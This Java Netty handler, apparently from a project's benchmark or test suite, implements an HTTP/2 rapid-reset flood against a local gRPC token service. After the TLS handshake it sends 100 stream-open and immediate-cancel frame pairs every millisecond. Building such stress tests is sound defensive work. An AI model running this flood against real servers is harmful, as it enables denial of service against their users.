package io.rotakeep.bench.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.SimpleChannelInboundHandler;
import io.netty.handler.ssl.SslHandshakeCompletionEvent;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.TimeUnit;

/** Makes calls and takes each back at once, a hundred in one go. */
final class ResettingPeer extends SimpleChannelInboundHandler<ByteBuf> {
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int END_HEADERS = 4;
  private static final byte[] CANCEL = {0, 0, 0, 8};
  private static final int AT_ONCE = 100;
  private static final byte[] CALL =
      headers(
          Map.of(
              ":method", "POST",
              ":scheme", "https",
              ":path", "/rotakeep.v1.TokenService/GetAccessToken",
              ":authority", "localhost",
              "content-type", "application/grpc",
              "te", "trailers"));

  private int stream = 1;

  @Override
  public void userEventTriggered(ChannelHandlerContext context, Object event) {
    if (event instanceof SslHandshakeCompletionEvent done && done.isSuccess()) {
      var _ = context.writeAndFlush(Greeting.bytes());
      storm(context);
    }
  }

  private void storm(ChannelHandlerContext context) {
    if (!context.channel().isActive()) {
      return;
    }
    // What nobody reads would fill this process, which would then be busy with that alone.
    if (context.channel().isWritable()) {
      var _ = context.writeAndFlush(calls());
    }
    var _ = context.executor().schedule(() -> storm(context), 1, TimeUnit.MILLISECONDS);
  }

  private ByteBuf calls() {
    ByteBuf out = Unpooled.buffer();
    for (int i = 0; i < AT_ONCE; i++, stream += 2) {
      Greeting.frame(out, HEADERS, END_HEADERS, stream, CALL);
      Greeting.frame(out, RST_STREAM, 0, stream, CANCEL);
    }
    return out;
  }

  @Override
  protected void channelRead0(ChannelHandlerContext context, ByteBuf frames) {}

  @Override
  public void exceptionCaught(ChannelHandlerContext context, Throwable cause) {
    var _ = context.close();
  }

  /** Nothing indexed, nothing packed (RFC 7541 §6.2.2). */
  private static byte[] headers(Map<String, String> fields) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    fields.entrySet().stream()
        .sorted(Map.Entry.comparingByKey())
        .forEach(
            field -> {
              out.write(0);
              literal(out, field.getKey());
              literal(out, field.getValue());
            });
    return out.toByteArray();
  }

  private static void literal(ByteArrayOutputStream out, String text) {
    byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
    out.write(bytes.length);
    out.writeBytes(bytes);
  }
}
